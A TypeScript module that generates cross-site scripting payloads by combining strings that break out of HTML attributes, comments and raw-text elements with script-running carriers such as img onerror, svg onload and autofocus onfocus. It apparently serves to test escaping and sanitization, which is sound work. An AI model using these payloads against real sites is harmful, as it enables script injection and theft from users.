import { combined, type Shape } from './shape'

/** Ends of what a text may stand in: attributes, elements of raw text, comments, sections, namespaces. */
const ends = [
  '">',
  "'>",
  '"/>',
  "'/>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '*/-->',
  '"\'>',

  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '</xmp>',
  '</iframe>',
  '</select>',
  '</svg>',
  '</math>',
  '</a></p>',
  '</TITLE\n>',
  '</script/x>',
]

/** Elements that run once the text has left its place. */
const carriers: readonly Shape[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<script>${call}</script>`,
  (call) => `<input autofocus onfocus=${call}>`,
]

/** Further attributes of the element in whose attribute the text stands. */
const attributes: readonly Shape[] = [
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' autofocus onfocus=${call} x='`,
  (call) => `" onfocus="${call}" tabindex="0" autofocus "`,
  (call) => `x autofocus onfocus=${call}`,
  (call) => `"onmouseover="${call}"`,
  (call) => `'onmouseover='${call}'`,
  (call) => `"\tonclick=${call}//`,
  (call) => `" style="animation:x" onanimationend="${call}"`,
]

/** Texts that leave the place they stand in. */
export const escapeShapes: readonly Shape[] = [
  ...combined(
    ends,
    carriers,
    (end, carrier): Shape =>
      (call, address) =>
        end + carrier(call, address),
  ),
  ...attributes,
]
